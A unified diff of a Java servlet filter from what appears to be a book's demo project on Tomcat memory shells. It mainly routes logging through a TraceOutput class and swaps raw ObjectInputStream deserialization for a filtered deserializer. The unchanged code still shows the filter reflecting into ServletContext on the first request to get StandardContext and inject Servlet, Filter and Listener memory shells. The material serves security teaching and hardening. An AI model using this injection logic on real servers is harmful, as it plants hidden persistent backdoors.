@@ -5,6 +5,9 @@ import com.book.demo.memshell.ServletMemoryShell;
 import com.book.demo.memshell.FilterMemoryShell;
 import com.book.demo.memshell.ListenerMemoryShell;
 import com.book.demo.memshell.MemoryShell;
+import com.book.demo.trace.DeserializationFilter;
+import com.book.demo.trace.DeserializationMetrics;
+import com.book.demo.trace.TraceOutput;
 import org.apache.catalina.core.StandardContext;
 import jakarta.servlet.*;
 import jakarta.servlet.annotation.WebFilter;
@@ -26,13 +29,13 @@ public class DemoFilter implements Filter {
     @Override
     public void init(FilterConfig filterConfig) throws ServletException {
         this.filterConfig = filterConfig;
-        System.out.println("[DEMO-FILTER] DemoFilter 初始化完成");
+        TraceOutput.println("[DEMO-FILTER] DemoFilter 初始化完成");
         
         // 模拟Filter初始化时的反序列化操作
         try {
             demonstrateFilterInitialization();
         } catch (Exception e) {
-            System.out.println("[DEMO-FILTER] 初始化演示失败: " + e.getMessage());
+            TraceOutput.println("[DEMO-FILTER] 初始化演示失败: " + e.getMessage());
         }
     }
     
@@ -46,7 +49,7 @@ public class DemoFilter implements Filter {
         long startTime = System.currentTimeMillis();
         String requestUri = httpRequest.getRequestURI();
         
-        System.out.println("[DEMO-FILTER] 处理请求: " + requestUri);
+        TraceOutput.println("[DEMO-FILTER] 处理请求: " + requestUri);
         
         // 延迟注入：在第一次请求时尝试注入内存马
         if (!delayedInjectionAttempted) {
@@ -65,25 +68,25 @@ public class DemoFilter implements Filter {
             
             // 请求处理完成后的操作
             long processingTime = System.currentTimeMillis() - startTime;
-            System.out.println("[DEMO-FILTER] 请求处理完成，耗时: " + processingTime + "ms");
+            TraceOutput.println("[DEMO-FILTER] 请求处理完成，耗时: " + processingTime + "ms");
             
             // 模拟响应处理
             processResponseData(httpResponse, processingTime);
             
         } catch (Exception e) {
-            System.out.println("[DEMO-FILTER] 过滤器处理异常: " + e.getMessage());
+            TraceOutput.println("[DEMO-FILTER] 过滤器处理异常: " + e.getMessage());
             throw new ServletException("Filter处理失败", e);
         }
     }
     
     @Override
     public void destroy() {
-        System.out.println("[DEMO-FILTER] DemoFilter 销毁完成");
+        TraceOutput.println("[DEMO-FILTER] DemoFilter 销毁完成");
         this.filterConfig = null;
     }
     
     private void demonstrateFilterInitialization() throws Exception {
-        System.out.println("[DEMO-FILTER] 演示Filter初始化过程中的反序列化");
+        TraceOutput.println("[DEMO-FILTER] 演示Filter初始化过程中的反序列化");
         
         // 创建Filter初始化数据
         Map<String, Object> initData = new HashMap<>();
@@ -94,11 +97,11 @@ public class DemoFilter implements Filter {
         
         // 序列化初始化数据
         String serializedData = serializeToBase64(initData);
-        System.out.println("[DEMO-FILTER] 初始化数据序列化完成，大小: " + serializedData.length());
+        TraceOutput.println("[DEMO-FILTER] 初始化数据序列化完成，大小: " + serializedData.length());
         
         // 反序列化初始化数据
         Object deserializedData = deserializeFromBase64(serializedData);
-        System.out.println("[DEMO-FILTER] 初始化数据反序列化完成: " + deserializedData);
+        TraceOutput.println("[DEMO-FILTER] 初始化数据反序列化完成: " + deserializedData);
     }
     
     private boolean shouldProcessRequest(HttpServletRequest request) {
@@ -109,7 +112,7 @@ public class DemoFilter implements Filter {
     }
     
     private void processRequestData(HttpServletRequest request) throws Exception {
-        System.out.println("[DEMO-FILTER] 处理请求数据反序列化");
+        TraceOutput.println("[DEMO-FILTER] 处理请求数据反序列化");
         
         // 创建请求处理数据
         Map<String, Object> requestData = new HashMap<>();
@@ -127,7 +130,7 @@ public class DemoFilter implements Filter {
         // 反序列化请求数据
         Object deserializedData = deserializeFromBase64(serializedData);
         
-        System.out.println("[DEMO-FILTER] 请求数据处理完成，序列化大小: " + serializedData.length());
+        TraceOutput.println("[DEMO-FILTER] 请求数据处理完成，序列化大小: " + serializedData.length());
         
         // 将处理结果存储到请求属性中
         request.setAttribute("filterProcessedData", deserializedData);
@@ -135,7 +138,7 @@ public class DemoFilter implements Filter {
     }
     
     private void processResponseData(HttpServletResponse response, long processingTime) throws Exception {
-        System.out.println("[DEMO-FILTER] 处理响应数据序列化");
+        TraceOutput.println("[DEMO-FILTER] 处理响应数据序列化");
         
         // 创建响应处理数据
         Map<String, Object> responseData = new HashMap<>();
@@ -150,7 +153,7 @@ public class DemoFilter implements Filter {
         // 反序列化响应数据
         Object deserializedData = deserializeFromBase64(serializedData);
         
-        System.out.println("[DEMO-FILTER] 响应数据处理完成: " + deserializedData);
+        TraceOutput.println("[DEMO-FILTER] 响应数据处理完成: " + deserializedData);
         
         // 添加自定义响应头
         response.setHeader("X-Filter-Processed", "true");
@@ -169,13 +172,7 @@ public class DemoFilter implements Filter {
     
     private Object deserializeFromBase64(String base64Data) throws IOException, ClassNotFoundException {
         byte[] serializedData = Base64.getDecoder().decode(base64Data);
-        ByteArrayInputStream bais = new ByteArrayInputStream(serializedData);
-        ObjectInputStream ois = new ObjectInputStream(bais);
-        
-        Object result = ois.readObject();
-        ois.close();
-        
-        return result;
+        return DeserializationFilter.forCallSite(DeserializationMetrics.CALL_SITE_FILTER).deserialize(serializedData);
     }
     
     /**
@@ -183,17 +180,17 @@ public class DemoFilter implements Filter {
      * 此时可以获取到真实的ServletContext和StandardContext
      */
     private void attemptDelayedInjection(HttpServletRequest request) {
-        System.out.println("[DEMO-FILTER] 开始延迟注入内存马...");
+        TraceOutput.println("[DEMO-FILTER] 开始延迟注入内存马...");
         
         try {
             ServletContext servletContext = request.getServletContext();
-            System.out.println("[DEMO-FILTER] 获取到ServletContext: " + servletContext.getClass().getName());
+            TraceOutput.println("[DEMO-FILTER] 获取到ServletContext: " + servletContext.getClass().getName());
             
             // 通过ServletContext获取StandardContext
             StandardContext standardContext = getStandardContextFromServletContext(servletContext);
             
             if (standardContext != null) {
-                System.out.println("[DEMO-FILTER] 成功获取StandardContext: " + standardContext.getPath());
+                TraceOutput.println("[DEMO-FILTER] 成功获取StandardContext: " + standardContext.getPath());
                 
                 // 创建内存马实例并手动设置context
                 ServletMemoryShell servletShell = new ServletMemoryShell();
@@ -206,45 +203,45 @@ public class DemoFilter implements Filter {
                 listenerShell.setStandardContext(standardContext);
                 
                 // 尝试注入
-                System.out.println("[DEMO-FILTER] 尝试注入Servlet内存马...");
+                TraceOutput.println("[DEMO-FILTER] 尝试注入Servlet内存马...");
                 try {
                     if (servletShell.inject()) {
-                        System.out.println("[DEMO-FILTER] Servlet内存马注入成功");
+                        TraceOutput.println("[DEMO-FILTER] Servlet内存马注入成功");
                     } else {
-                        System.out.println("[DEMO-FILTER] Servlet内存马注入失败");
+                        TraceOutput.println("[DEMO-FILTER] Servlet内存马注入失败");
                     }
                 } catch (Exception e) {
-                    System.out.println("[DEMO-FILTER] Servlet内存马注入异常: " + e.getMessage());
+                    TraceOutput.println("[DEMO-FILTER] Servlet内存马注入异常: " + e.getMessage());
                 }
                 
-                System.out.println("[DEMO-FILTER] 尝试注入Filter内存马...");
+                TraceOutput.println("[DEMO-FILTER] 尝试注入Filter内存马...");
                 try {
                     if (filterShell.inject()) {
-                        System.out.println("[DEMO-FILTER] Filter内存马注入成功");
+                        TraceOutput.println("[DEMO-FILTER] Filter内存马注入成功");
                     } else {
-                        System.out.println("[DEMO-FILTER] Filter内存马注入失败");
+                        TraceOutput.println("[DEMO-FILTER] Filter内存马注入失败");
                     }
                 } catch (Exception e) {
-                    System.out.println("[DEMO-FILTER] Filter内存马注入异常: " + e.getMessage());
+                    TraceOutput.println("[DEMO-FILTER] Filter内存马注入异常: " + e.getMessage());
                 }
                 
-                System.out.println("[DEMO-FILTER] 尝试注入Listener内存马...");
+                TraceOutput.println("[DEMO-FILTER] 尝试注入Listener内存马...");
                 try {
                     if (listenerShell.inject()) {
-                        System.out.println("[DEMO-FILTER] Listener内存马注入成功");
+                        TraceOutput.println("[DEMO-FILTER] Listener内存马注入成功");
                     } else {
-                        System.out.println("[DEMO-FILTER] Listener内存马注入失败");
+                        TraceOutput.println("[DEMO-FILTER] Listener内存马注入失败");
                     }
                 } catch (Exception e) {
-                    System.out.println("[DEMO-FILTER] Listener内存马注入异常: " + e.getMessage());
+                    TraceOutput.println("[DEMO-FILTER] Listener内存马注入异常: " + e.getMessage());
                 }
                 
             } else {
-                System.out.println("[DEMO-FILTER] 无法从ServletContext获取StandardContext");
+                TraceOutput.println("[DEMO-FILTER] 无法从ServletContext获取StandardContext");
             }
             
         } catch (Exception e) {
-            System.out.println("[DEMO-FILTER] 延迟注入失败: " + e.getMessage());
+            TraceOutput.println("[DEMO-FILTER] 延迟注入失败: " + e.getMessage());
             e.printStackTrace();
         }
     }
@@ -261,7 +258,7 @@ public class DemoFilter implements Filter {
                 Object context = contextField.get(servletContext);
                 
                 if (context instanceof StandardContext) {
-                    System.out.println("[DEMO-FILTER] 通过ApplicationContext.context获取StandardContext");
+                    TraceOutput.println("[DEMO-FILTER] 通过ApplicationContext.context获取StandardContext");
                     return (StandardContext) context;
                 }
             }
@@ -278,7 +275,7 @@ public class DemoFilter implements Filter {
                     Object context = innerContextField.get(applicationContext);
                     
                     if (context instanceof StandardContext) {
-                        System.out.println("[DEMO-FILTER] 通过ApplicationContextFacade获取StandardContext");
+                        TraceOutput.println("[DEMO-FILTER] 通过ApplicationContextFacade获取StandardContext");
                         return (StandardContext) context;
                     }
                 }
@@ -293,14 +290,14 @@ public class DemoFilter implements Filter {
                     Object value = field.get(servletContext);
                     
                     if (value instanceof StandardContext) {
-                        System.out.println("[DEMO-FILTER] 通过字段 " + fieldName + " 获取StandardContext");
+                        TraceOutput.println("[DEMO-FILTER] 通过字段 " + fieldName + " 获取StandardContext");
                         return (StandardContext) value;
                     }
                 } catch (NoSuchFieldException ignored) {}
             }
             
         } catch (Exception e) {
-            System.out.println("[DEMO-FILTER] 从ServletContext获取StandardContext失败: " + e.getMessage());
+            TraceOutput.println("[DEMO-FILTER] 从ServletContext获取StandardContext失败: " + e.getMessage());
         }
         
         return null;